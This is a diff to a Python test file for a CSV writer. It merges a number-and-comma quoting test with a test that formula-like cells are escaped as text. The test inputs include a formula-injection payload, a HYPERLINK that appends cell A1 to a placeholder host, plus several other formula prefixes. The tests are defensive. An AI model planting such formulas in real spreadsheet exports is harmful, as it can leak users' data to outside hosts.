@@ -7,7 +7,6 @@ import io
 from dataclasses import replace
 
 import numpy as np
-import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
@@ -23,14 +22,11 @@ from tests.support.inputs import parse
 FORMULA = '=HYPERLINK("http://a.example"&A1)'
 
 
-def test_numbers_stay_numbers_and_commas_are_quoted() -> None:
+def test_numbers_stay_numbers_commas_are_quoted_and_a_formula_is_written_as_text() -> None:
     assert csv_text(["a", "b"], [(-1, "x,y"), (-2.5, None)]) == 'a,b\n-1,"x,y"\n-2.5,\n'
-
-
-@pytest.mark.parametrize("name", [FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1"])
-def test_a_formula_is_written_as_text(name: str) -> None:
-    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[name]]), newline="")))
-    assert rows == [["name"], ["'" + name]]
+    names = [FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1"]
+    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[name] for name in names]), newline="")))
+    assert rows == [["name"], *(["'" + name] for name in names)]
 
 
 @given(st.text("='+-@\tab", max_size=6))
